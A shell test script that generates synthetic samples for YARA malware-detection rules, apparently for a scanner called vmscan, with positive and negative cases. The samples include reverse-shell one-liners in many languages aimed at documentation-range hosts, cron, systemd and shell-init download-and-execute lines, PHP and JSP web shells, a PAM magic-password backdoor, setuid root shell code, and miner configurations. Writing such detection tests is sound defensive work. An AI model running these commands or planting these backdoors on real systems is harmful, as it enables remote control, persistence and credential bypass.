#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# Write synthetic samples for the bundled YARA rules (yara-rules/*.yar)
# into DIR, plus DIR/expected.txt listing "RULE_NAME SAMPLE_FILENAME" for
# every match the rules should produce.  Nothing here is live malware:
# the "miners" are copies of /bin/true with strings appended, the wallet
# is made up, and the EICAR test file is assembled from two halves so
# that this repository never holds it in one piece.  The reverse shells,
# web shells and backdoors are text that is never run, with addresses
# from the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
# 203.0.113.0/24, example.com); the ELF samples are compiled from C whose
# functions do nothing: they only reference the symbols and strings the
# rules look for, and are never loaded or run.
#
# Also written:
#   DIR/paths.txt    "SAMPLE_FILENAME GUEST_PATH" for samples whose rule
#                    looks at the filepath external: scan them with
#                    filepath set to GUEST_PATH (others: any path).
#   DIR/skipped.txt  names of rules whose samples could not be built
#                    here (no C compiler: $CC, else cc), one a line.
#
# Usage: tests/rule-samples.sh DIR

set -eu

if [ "$#" -ne 1 ]; then
  echo "usage: $0 DIR" >&2
  exit 2
fi
dir="$1"
mkdir -p "$dir"

true_bin=/bin/true
if [ ! -f "$true_bin" ]; then
  true_bin=/usr/bin/true
fi

# The EICAR test string in two halves ($ and \ are literal here).
# shellcheck disable=SC2016
eicar1='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-'
# shellcheck disable=SC2016
eicar2='STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'

# A made-up Monero address: 95 characters, "4" then [1-9AB] then base58.
# It has no valid checksum, so it cannot receive anything.
part='TestWa11etNotRea1DoNotSend'
wallet="4Bvmscan${part}${part}${part}TestWa11e"
if [ "${#wallet}" -ne 95 ]; then
  echo "$0: internal error: wallet is ${#wallet} characters" >&2
  exit 1
fi

: >"$dir/expected.txt"
: >"$dir/paths.txt"
: >"$dir/skipped.txt"
expect() {
  printf '%s %s\n' "$1" "$2" >>"$dir/expected.txt"
}
# guest_path SAMPLE_FILENAME GUEST_PATH
guest_path() {
  printf '%s %s\n' "$1" "$2" >>"$dir/paths.txt"
}

# ---- EICAR -------------------------------------------------------------

# The standard file: exactly 68 bytes.
printf '%s%s' "$eicar1" "$eicar2" >"$dir/eicar.com"
expect EICAR_Test_File eicar.com

# Trailing whitespace (CR LF, tab, space, Ctrl-Z) is allowed by the spec.
printf '%s%s\r\n\t \032' "$eicar1" "$eicar2" >"$dir/eicar-trailing-ws.txt"
expect EICAR_Test_File eicar-trailing-ws.txt

# Negative: not at offset 0.
printf 'prefix %s%s\n' "$eicar1" "$eicar2" >"$dir/eicar-not-at-start.txt"

# Negative: followed by something other than whitespace.
printf '%s%s junk\n' "$eicar1" "$eicar2" >"$dir/eicar-trailing-junk.txt"

# Negative: longer than 128 bytes (68 + 61 spaces = 129).
printf '%s%s%61s' "$eicar1" "$eicar2" '' >"$dir/eicar-too-long.txt"

# Negative: prose about EICAR without the test string.
cat >"$dir/eicar-notes.txt" <<'EOF'
Anti-malware smoke test
=======================

Drop the EICAR test file (see eicar.org) into the upload directory and
check that the scanner quarantines it.  The EICAR file is harmless.
EOF

# ---- Cryptominer configuration and launchers ---------------------------

# XMRig-style config.json with a stratum pool, a wallet and donate-level.
cat >"$dir/config.json" <<EOF
{
    "autosave": true,
    "donate-level": 1,
    "cpu": {
        "enabled": true,
        "huge-pages": true,
        "max-threads-hint": 75
    },
    "randomx": {
        "init": -1,
        "mode": "auto"
    },
    "pools": [
        {
            "algo": "rx/0",
            "coin": "monero",
            "url": "stratum+tcp://pool.supportxmr.com:3333",
            "user": "${wallet}",
            "pass": "x",
            "rig-id": "web01",
            "nicehash": false,
            "keepalive": true,
            "tls": false
        }
    ]
}
EOF
expect Cryptominer_Stratum_Pool_URL config.json
expect Cryptominer_Known_Pool_Host config.json
expect Cryptominer_XMRig_JSON_Config config.json
expect Cryptominer_Monero_Wallet_Login config.json

# A launcher script: pool by IP address (TEST-NET-3), wallet on the
# command line.
cat >"$dir/start-miner.sh" <<EOF
#!/bin/sh
cd /var/tmp/.cache || exit 0
pkill -f kdevtmpfsi 2>/dev/null
nohup ./kworker -o stratum+tcp://203.0.113.7:3333 -u ${wallet} -p x \\
  --donate-level=1 -B >/dev/null 2>&1 &
EOF
expect Cryptominer_Stratum_Pool_URL start-miner.sh
expect Cryptominer_Monero_Wallet_Login start-miner.sh

# A launcher that names a pool by host:port and keeps the URL in a
# variable.
cat >"$dir/run.sh" <<'EOF'
#!/bin/sh
POOL="stratum+ssl://gulf.moneroocean.stream:20128"
BACKUP=pool.hashvault.pro:443
exec /dev/shm/.x/systemd-helper -o "$POOL" -o "$BACKUP" --tls
EOF
expect Cryptominer_Stratum_Pool_URL run.sh
expect Cryptominer_Known_Pool_Host run.sh

# Cron persistence that restarts the miner from a hidden directory.
cat >"$dir/sysupdate" <<'EOF'
# /etc/cron.d/sysupdate
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
*/10 * * * * root cd /var/tmp/.cache && /var/tmp/.cache/kworker -c config.json >/dev/null 2>&1
EOF
expect Persistence_Cron_Hidden_Tmp_Path sysupdate

# A user crontab (no user field) with @reboot.
cat >"$dir/user-crontab" <<'EOF'
@reboot /dev/shm/.x/run.sh
EOF
expect Persistence_Cron_Hidden_Tmp_Path user-crontab

# ---- Miner binaries (fake) ---------------------------------------------

# XMRig-like: a real ELF (copy of true) with XMRig's strings appended.
cp "$true_bin" "$dir/kworker"
{
  printf '\000XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\000'
  printf 'Usage: xmrig [OPTIONS]\000--donate-level=N\000'
  printf 'donate.v2.xmrig.com\000rx/0\000randomx\000cryptonight\000'
} >>"$dir/kworker"
expect Cryptominer_XMRig_ELF kworker

# cpuminer-like: a Stratum client.
cp "$true_bin" "$dir/minerd"
{
  printf '\000Usage: minerd [OPTIONS]\000mining.subscribe\000'
  printf 'mining.authorize\000mining.notify\000mining.submit\000'
} >>"$dir/minerd"
expect Cryptominer_Stratum_Client_ELF minerd

# ---- Negatives ---------------------------------------------------------

# Prose about stratum, pools and a placeholder URL.
cat >"$dir/README" <<'EOF'
Time and mining notes
=====================

Our NTP servers run at stratum 2 and sync from two stratum 1 servers.

The finance team asked whether the GPU hosts could mine.  Mining software
talks the Stratum protocol to a pool; URLs look like
stratum+tcp://HOST:PORT and pools such as supportxmr.com, nanopool.org
or moneroocean.stream publish their statistics on the web.  We decided
against it.
EOF

# A JSON config with "pools" but nothing miner-like (database pools).
cat >"$dir/pools.json" <<'EOF'
{
  "pools": [
    {
      "name": "primary",
      "url": "postgres://db1.internal:5432/app",
      "user": "app",
      "pass": "secret",
      "keepalive": true,
      "tls": true,
      "max-connections": 20
    }
  ]
}
EOF

# A plain ELF binary.
cp "$true_bin" "$dir/true"

# A donation address in prose is not a miner login.
cat >"$dir/donate.txt" <<EOF
If you like this project, donations are welcome:
XMR ${wallet}
EOF

# A packaged crontab: nothing from hidden directories under /tmp.
cat >"$dir/crontab" <<'EOF'
# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 3	* * *	root	find /tmp /var/tmp -xdev -type f -mtime +7 -delete
EOF

# A miner dropper's clean-up of competing miners.
cat >"$dir/clean-others.sh" <<'EOF'
#!/bin/sh
pkill -f kdevtmpfsi
pkill -f kinsing
killall -9 xmrig 2>/dev/null
ps aux | grep -v grep | grep 'minerd' | awk '{print $2}' | xargs -r kill -9
EOF
expect Cryptominer_Competitor_Killer clean-others.sh

# Negatives: an admin's one-off clean-up names one miner; a monitoring
# check looks for many but kills none.
cat >"$dir/incident-cleanup.sh" <<'EOF'
#!/bin/sh
# Ticket 4711: remove the miner found on web03.
pkill -f xmrig
rm -f /var/tmp/.cache/kworker
EOF
cat >"$dir/check-miners.sh" <<'EOF'
#!/bin/sh
if ps aux | grep -v grep | grep -E 'kdevtmpfsi|kinsing|xmrig|minerd'; then
  echo "CRITICAL: miner process running"; exit 2
fi
EOF

# ---- Persistence: download and execute ---------------------------------

cat >"$dir/cron-update" <<'EOF'
# /etc/cron.d/cron-update
*/5 * * * * root (curl -fsSL http://198.51.100.23/up.sh || wget -q -O- http://198.51.100.23/up.sh) | sh
@reboot echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4yMy91cC5zaCB8IHNoCg== | base64 -d | bash
EOF
expect Persistence_Cron_Download_Exec cron-update

cat >"$dir/cron-subst" <<'EOF'
0 * * * * /bin/bash -c "$(curl -fsSL https://updates.example.com/i.sh)"
EOF
expect Persistence_Cron_Download_Exec cron-subst

cat >"$dir/dbus-helper.service" <<'EOF'
[Unit]
Description=D-Bus helper
After=network-online.target

[Service]
Type=simple
ExecStart=/bin/sh -c 'wget -q -O - http://203.0.113.50/k.sh | sh'
Restart=always

[Install]
WantedBy=multi-user.target
EOF
expect Persistence_Systemd_Download_Exec dbus-helper.service

cat >"$dir/rc.local" <<'EOF'
#!/bin/sh -e
curl -s http://203.0.113.50/k.sh | bash >/dev/null 2>&1 &
exit 0
EOF
expect Persistence_Shell_Init_Download_Exec rc.local

cat >"$dir/.bashrc" <<'EOF'
# ~/.bashrc
alias ll='ls -l'
echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4yMy91cC5zaCB8IHNoCg== | base64 --decode | sh >/dev/null 2>&1
EOF
expect Persistence_Shell_Init_Download_Exec .bashrc

# Matched by its guest path (/etc/profile.d/*.sh), not its name.
cat >"$dir/zz-update.sh" <<'EOF'
bash <(wget -qO- http://198.51.100.23/p.sh) >/dev/null 2>&1
EOF
expect Persistence_Shell_Init_Download_Exec zz-update.sh
guest_path zz-update.sh /etc/profile.d/zz-update.sh

# Negatives: install instructions and a packaged-looking unit and cron
# job that fetch but do not run what they fetch.
cat >"$dir/INSTALL.md" <<'EOF'
Install with:

    curl -fsSL https://get.example.com/install.sh | sh

or download the tarball.
EOF
cat >"$dir/fetch-stats.service" <<'EOF'
[Service]
ExecStart=/usr/bin/curl -fsS -o /var/lib/stats/latest.json https://stats.example.com/latest.json
EOF
cat >"$dir/cron-backup" <<'EOF'
30 2 * * * root /usr/local/sbin/backup.sh && curl -fsS -m 10 https://hc.example.com/ping/abc >/dev/null
EOF

# ---- Reverse shells ----------------------------------------------------

cat >"$dir/bash_history" <<'EOF'
id
uname -a
bash -i >& /dev/tcp/192.0.2.10/4444 0>&1
EOF
expect ReverseShell_Bash_Dev_TCP bash_history

cat >"$dir/fd-shell.sh" <<'EOF'
exec 5<>/dev/tcp/rs.example.com/443
cat <&5 | while read line; do $line 2>&5 >&5; done
sh <&5 >&5 2>&5
EOF
expect ReverseShell_Bash_Dev_TCP fd-shell.sh

cat >"$dir/nc-e.sh" <<'EOF'
#!/bin/sh
while true; do nc -e /bin/sh 192.0.2.10 4444; sleep 60; done
EOF
expect ReverseShell_Netcat_Exec nc-e.sh

cat >"$dir/ncat-exec.txt" <<'EOF'
ncat 192.0.2.10 8443 --ssl --sh-exec "bash -li"
EOF
expect ReverseShell_Netcat_Exec ncat-exec.txt

cat >"$dir/fifo.sh" <<'EOF'
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f
EOF
expect ReverseShell_FIFO_Relay fifo.sh

cat >"$dir/backpipe.sh" <<'EOF'
mknod /tmp/backpipe p && nc 192.0.2.10 4444 0</tmp/backpipe | /bin/bash 1>/tmp/backpipe
EOF
expect ReverseShell_FIFO_Relay backpipe.sh

cat >"$dir/telnet.sh" <<'EOF'
telnet 192.0.2.10 4444 | /bin/sh | telnet 192.0.2.10 4445
EOF
expect ReverseShell_Telnet_Relay telnet.sh

cat >"$dir/socat.sh" <<'EOF'
socat tcp-connect:192.0.2.10:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane
EOF
expect ReverseShell_Socat_Exec socat.sh

cat >"$dir/socat-bind.sh" <<'EOF'
socat EXEC:/bin/sh TCP-LISTEN:31337,reuseaddr,fork
EOF
expect ReverseShell_Socat_Exec socat-bind.sh

cat >"$dir/rs.py" <<'EOF'
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.10", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
import pty
pty.spawn("/bin/bash")
EOF
expect ReverseShell_Python_Socket rs.py

cat >"$dir/rs.pl" <<'EOF'
use Socket;
$i = "192.0.2.10"; $p = 4444;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($p, inet_aton($i)))) {
  open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
  exec("/bin/sh -i");
}
EOF
expect ReverseShell_Perl_Socket rs.pl

cat >"$dir/rs.rb" <<'EOF'
require 'socket'
f = TCPSocket.open("192.0.2.10", 4444).to_i
exec sprintf("/bin/sh -i <&%d >&%d 2>&%d", f, f, f)
EOF
expect ReverseShell_Ruby_Socket rs.rb

cat >"$dir/rs-php.txt" <<'EOF'
php -r '$sock=fsockopen("192.0.2.10",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
EOF
expect ReverseShell_PHP_Socket rs-php.txt

cat >"$dir/rs.awk" <<'EOF'
BEGIN {
  s = "/inet/tcp/0/192.0.2.10/4444"
  while (42) {
    do {
      printf "> " |& s
      s |& getline c
      if (c) {
        while ((c |& getline) > 0)
          print $0 |& s
        close(c)
      }
    } while (c != "exit")
    close(s)
  }
}
EOF
expect ReverseShell_Awk_Inet rs.awk

cat >"$dir/rs.js" <<'EOF'
(function () {
  var net = require("net"), cp = require("child_process"),
      sh = cp.spawn("/bin/sh", []);
  var client = new net.Socket();
  client.connect(4444, "192.0.2.10", function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return /a/;
})();
EOF
expect ReverseShell_Node_Socket rs.js

# Negatives: ordinary network scripting.
cat >"$dir/healthcheck.sh" <<'EOF'
#!/bin/bash
# Is the web server up?  bash's /dev/tcp, no shell handed over.
if exec 3<>/dev/tcp/127.0.0.1/80; then
  printf 'HEAD / HTTP/1.0\r\n\r\n' >&3
  head -n 1 <&3
fi
nc -z -w 2 db.internal 5432 && echo db up
socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80
EOF
cat >"$dir/client.py" <<'EOF'
import socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("db.internal", 5432))
s.close()
print(subprocess.run(["/bin/sh", "-c", "uptime"], capture_output=True).stdout)
EOF
cat >"$dir/catpipe.awk" <<'EOF'
BEGIN {
  NetService = "/inet/tcp/0/localhost/8888"
  print "README" |& NetService
  while ((NetService |& getline) > 0)
    print $0
  close(NetService)
}
EOF

# ---- Web shells --------------------------------------------------------

cat >"$dir/cmd.php" <<'EOF'
<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>
EOF
expect Webshell_PHP_Request_Exec cmd.php

# A GIF header in front: still PHP to an include().
# shellcheck disable=SC2016
printf 'GIF89a<?php @eval(base64_decode($_POST["z"])); ?>\n' >"$dir/logo.gif"
expect Webshell_PHP_Request_Exec logo.gif

cat >"$dir/dyn.php" <<'EOF'
<?php $_GET['f']($_GET['a']); echo `$_POST[x]`; ?>
EOF
expect Webshell_PHP_Request_Exec dyn.php

cat >"$dir/pregex.php" <<'EOF'
<?php preg_replace("/.*/e", $_POST['code'], ""); ?>
EOF
expect Webshell_PHP_Request_Exec pregex.php

cat >"$dir/varfunc.php" <<'EOF'
<?php
$k = "ass" . "ert";
$k($_POST['p']);
EOF
expect Webshell_PHP_Variable_Function_Request varfunc.php

# The payload is harmless (echo 'x';) but wrapped the way droppers do.
payload="$(printf "echo 'x';" | gzip -9n | tail -c +11 | head -c -8 | base64 | tr -d '\n')"
printf '<?php eval(gzinflate(base64_decode("%s"))); ?>\n' "$payload" \
  >"$dir/cache.php"
expect Webshell_PHP_Eval_Decode_Chain cache.php

cat >"$dir/fm.php" <<'EOF'
<?php
/* r57shell-style file manager (fake: for vmscan tests) */
$default_action = 'FilesMan';
function ex($in) { return shell_exec($in); }
EOF
expect Webshell_PHP_File_Manager_Family fm.php

cat >"$dir/cmd.jsp" <<'EOF'
<%@ page import="java.io.*" %>
<%
  Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String l; while ((l = r.readLine()) != null) out.println(l);
%>
EOF
expect Webshell_JSP_Request_Exec cmd.jsp

cat >"$dir/pb.jsp" <<'EOF'
<%
  String c = request.getParameter("c");
  ProcessBuilder b = new ProcessBuilder("/bin/sh", "-c", c);
  java.io.InputStream in = b.start().getInputStream();
%>
EOF
expect Webshell_JSP_Request_Exec pb.jsp

cat >"$dir/shell.jspx.jsp" <<'EOF'
<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!class U extends ClassLoader { U(ClassLoader c) { super(c); }
  public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } }%>
<% if (request.getMethod().equals("POST")) {
  Cipher c = Cipher.getInstance("AES");
  String body = request.getReader().readLine();
} %>
EOF
expect Webshell_JSP_ClassLoader_Crypto shell.jspx.jsp

# Negatives: ordinary PHP and JSP.
cat >"$dir/index.php" <<'EOF'
<?php
$page = isset($_GET['page']) ? basename($_GET['page']) : 'home';
$db->exec($_POST['sql_is_escaped_elsewhere']);
echo htmlspecialchars($page);
$out = shell_exec('uptime');
$cfg = json_decode(base64_decode($settings), true);
EOF
cat >"$dir/hello.jsp" <<'EOF'
<%@ page contentType="text/html" %>
<p>Hello, <%= request.getParameter("name") %></p>
EOF

# ---- Backdoors: scripts and sources ------------------------------------

cat >"$dir/authorized_keys" <<'EOF'
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBvmscanTestKeyNotARealKeyAAAAAAAAAAAAAAAAAA admin@example.com
no-pty,command="curl -s http://203.0.113.9/r.sh | sh; exec $SHELL" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQvmscanTestKeyNotARealKey deploy@example.com
EOF
expect Backdoor_SSH_AuthorizedKeys_Command authorized_keys

# Negative: forced commands as backup and git servers use them.
cat >"$dir/authorized_keys2" <<'EOF'
command="borg serve --restrict-to-path /srv/backup",restrict ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBvmscanTestKeyNotARealKeyAAAAAAAAAAAAAAAAAA backup@example.com
command="/usr/bin/rrsync -ro /srv/www",no-agent-forwarding ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQvmscanTestKeyNotARealKey mirror@example.com
EOF

cat >"$dir/suid.sh" <<'EOF'
#!/bin/sh
cp /bin/bash /var/tmp/.bash
chmod 4755 /var/tmp/.bash
chmod u+s /bin/dash
EOF
expect Backdoor_Setuid_Shell_Script suid.sh

# Negative: packaged permission fixes.
cat >"$dir/postinst" <<'EOF'
#!/bin/sh
chmod 4755 /usr/lib/dbus-1.0/dbus-daemon-launch-helper
chmod u+s /usr/bin/passwd
chmod 1777 /tmp
EOF

cat >"$dir/rootshell.c" <<'EOF'
#include <unistd.h>
int
main (void)
{
  setuid (0);
  setgid (0);
  execl ("/bin/sh", "sh", (char *) 0);
  return 1;
}
EOF
expect Backdoor_Setuid_Shell_Source rootshell.c

cat >"$dir/pam_magic.c" <<'EOF'
#include <string.h>
#include <security/pam_modules.h>
PAM_EXTERN int
pam_sm_authenticate (pam_handle_t *pamh, int flags, int argc, const char **argv)
{
  const char *password = NULL;
  pam_get_authtok (pamh, PAM_AUTHTOK, &password, NULL);
  if (password && strcmp (password, "vmscan-test-magic") == 0)
    return PAM_SUCCESS;
  return PAM_AUTH_ERR;
}
EOF
expect Backdoor_PAM_Magic_Password_Source pam_magic.c

# Negative: a PAM module that compares its options, not passwords.
cat >"$dir/pam_opts.c" <<'EOF'
#include <string.h>
#include <security/pam_modules.h>
PAM_EXTERN int
pam_sm_authenticate (pam_handle_t *pamh, int flags, int argc, const char **argv)
{
  int i, debug = 0;
  for (i = 0; i < argc; i++)
    if (strcmp (argv[i], "debug") == 0)
      debug = 1;
  return debug ? PAM_SUCCESS : PAM_IGNORE;
}
EOF

# ---- Rootkit traces: sources and files ---------------------------------

# Fragments naming what the public sources name; no working code.
cat >"$dir/diamorphine.h" <<'EOF'
/* fake header for vmscan tests: names only */
#define MAGIC_PREFIX "diamorphine_secret"
#define MODULE_NAME "diamorphine"
EOF
expect Rootkit_LKM_Diamorphine diamorphine.h


cat >"$dir/rc.local.hidden" <<'EOF'
#!/bin/sh
#<reptile>
/reptile/start
#</reptile>
exit 0
EOF
expect Rootkit_LKM_Reptile rc.local.hidden

cat >"$dir/suterusu-fragment.c" <<'EOF'
/* fake fragment for vmscan tests: prototypes only */
void hijack_start (void *target, void *new);
void hijack_stop (void *target);
static int n_tcp4_seq_show (void *seq, void *v);
void hide_tcp4_port (unsigned short port);
EOF
expect Rootkit_LKM_Suterusu suterusu-fragment.c

printf '/usr/local/lib/libsystemd-helper.so\n' >"$dir/ld.so.preload"
expect Rootkit_LD_SO_Preload_Entry ld.so.preload

# Negatives: a detector's lists of names and paths (as rkhunter and
# chkrootkit carry them); the same preload line in a file of another
# name; prose.
cat >"$dir/detector-lists.sh" <<'EOF'
DIAMORPHINE_KSYMS="diamorphine
    module_hide
    is_invisible
    hacked_getdents
    hacked_kill"
REPTILE_FILES="/reptile/reptile_cmd
    /reptile/reptile_shell
    /reptile/reptile_start"
SUTERUSU_FILES="/tmp/suterusu"
EOF
printf '/usr/local/lib/libsystemd-helper.so\n' >"$dir/preload.list"
cat >"$dir/zoo.txt" <<'EOF'
The reptile house reopens on Monday.  Feeding: 11:00 and 15:00.
EOF

# ---- ELF samples, compiled here ----------------------------------------

cc="${CC:-cc}"
build="$(mktemp -d)"
trap 'rm -rf "$build"' EXIT
if ! command -v "$cc" >/dev/null 2>&1 || {
    printf 'int main (void) { return 0; }\n' >"$build/probe.c" &&
    ! "$cc" -o "$build/probe" "$build/probe.c" >/dev/null 2>&1; }; then
  echo "$0: no working C compiler ($cc): ELF samples not built" >&2
  for r in Backdoor_LD_PRELOAD_Rootkit_ELF Backdoor_PAM_Credential_Logger_ELF \
           Backdoor_Setuid_Shell_ELF Rootkit_LKM_Syscall_Table_Hook; do
    echo "$r" >>"$dir/skipped.txt"
  done
else
  # LD_PRELOAD rootkit look-alike: defines readdir/readdir64, imports
  # dlsym, names ld.so.preload.  The functions do nothing useful.
  cat >"$build/hide.c" <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
__attribute__((used)) static const char files[] = "/etc/ld.so.preload";
__attribute__((used)) static void *refs[] = { (void *) dlsym };
struct dirent *readdir (DIR *d) { (void) d; return 0; }
struct dirent64 *readdir64 (DIR *d) { (void) d; return 0; }
EOF
  "$cc" -shared -fPIC -o "$dir/libhide.so" "$build/hide.c" -ldl
  expect Backdoor_LD_PRELOAD_Rootkit_ELF libhide.so

  # Negative: a tracing preload (defines readdir, imports dlsym, hides
  # nothing).
  cat >"$build/trace.c" <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
__attribute__((used)) static void *refs[] = { (void *) dlsym };
struct dirent *readdir (DIR *d) { (void) d; return 0; }
EOF
  "$cc" -shared -fPIC -o "$dir/libtrace.so" "$build/trace.c" -ldl

  # PAM credential logger look-alike: defines pam_sm_authenticate,
  # imports pam_get_authtok and fopen, names a file in /tmp.
  cat >"$build/pam_log.c" <<'EOF'
#include <stdio.h>
extern int pam_get_authtok (void *, int, const char **, const char *);
__attribute__((used)) static const char log_path[] = "/tmp/.ICE-unix.lock";
__attribute__((used)) static const char log_fmt[] = "%s:%s\n";
__attribute__((used)) static void *refs[] = { (void *) pam_get_authtok,
                                             (void *) fopen };
int pam_sm_authenticate (void *h, int f, int c, const char **v)
{ (void) h; (void) f; (void) c; (void) v; return 0; }
EOF
  "$cc" -shared -fPIC -o "$dir/pam_unix2.so" "$build/pam_log.c"
  expect Backdoor_PAM_Credential_Logger_ELF pam_unix2.so

  # Negative: an ordinary module reading its config file.
  cat >"$build/pam_ok.c" <<'EOF'
#include <stdio.h>
extern int pam_get_item (const void *, int, const void **);
__attribute__((used)) static const char conf[] = "/etc/security/ok.conf";
__attribute__((used)) static const char fmt[] = "%s:%s\n";
__attribute__((used)) static void *refs[] = { (void *) pam_get_item,
                                             (void *) fopen };
int pam_sm_authenticate (void *h, int f, int c, const char **v)
{ (void) h; (void) f; (void) c; (void) v; return 0; }
EOF
  "$cc" -shared -fPIC -o "$dir/pam_ok.so" "$build/pam_ok.c"

  # Setuid shell wrapper look-alike: imports setuid, setgid, execl and
  # names /bin/sh, but main() returns at once.
  cat >"$build/suid.c" <<'EOF'
#include <unistd.h>
__attribute__((used)) static const char sh[] = "\0/bin/sh";
__attribute__((used)) static void *refs[] = { (void *) setuid,
                                             (void *) setgid,
                                             (void *) execl };
int main (void) { return 0; }
EOF
  "$cc" -o "$dir/.dbus-helper" "$build/suid.c"
  expect Backdoor_Setuid_Shell_ELF .dbus-helper

  # Kernel module look-alikes: relocatable objects with a .modinfo.
  cat >"$build/hook.c" <<'EOF'
__attribute__((used, section(".modinfo"))) static const char vm[] =
  "vermagic=6.1.0-99-amd64 SMP preempt mod_unload modversions ";
__attribute__((used)) static const char names[] =
  "sys_call_table\0kallsyms_lookup_name";
EOF
  "$cc" -c -o "$dir/hook.ko" "$build/hook.c"
  expect Rootkit_LKM_Syscall_Table_Hook hook.ko

  # Diamorphine look-alike module: the hook and helper names as (empty)
  # functions, the module name in .modinfo.
  cat >"$build/dm.c" <<'EOF'
__attribute__((used, section(".modinfo"))) static const char nm[] =
  "name=diamorphine";
__attribute__((used)) static const char vm[] = "vermagic=6.1.0-99-amd64 SMP";
void hacked_kill (void) { }
void hacked_getdents64 (void) { }
void give_root (void) { }
void module_hide (void) { }
EOF
  "$cc" -c -o "$dir/dm.ko" "$build/dm.c"
  expect Rootkit_LKM_Diamorphine dm.ko

  # Reptile look-alike control program: names its components.
  cat >"$build/rc.c" <<'EOF'
__attribute__((used)) static const char paths[] =
  "/reptile/reptile_shell\0/reptile/reptile_start";
int main (void) { return 0; }
EOF
  "$cc" -o "$dir/cmd" "$build/rc.c"
  expect Rootkit_LKM_Reptile cmd

  # Negative: a module that uses a kprobe but no system call table.
  cat >"$build/kp.c" <<'EOF'
__attribute__((used, section(".modinfo"))) static const char vm[] =
  "vermagic=6.1.0-99-amd64 SMP preempt mod_unload modversions ";
__attribute__((used)) static const char names[] =
  "register_kprobe\0do_sys_open";
EOF
  "$cc" -c -o "$dir/kp.ko" "$build/kp.c"
fi
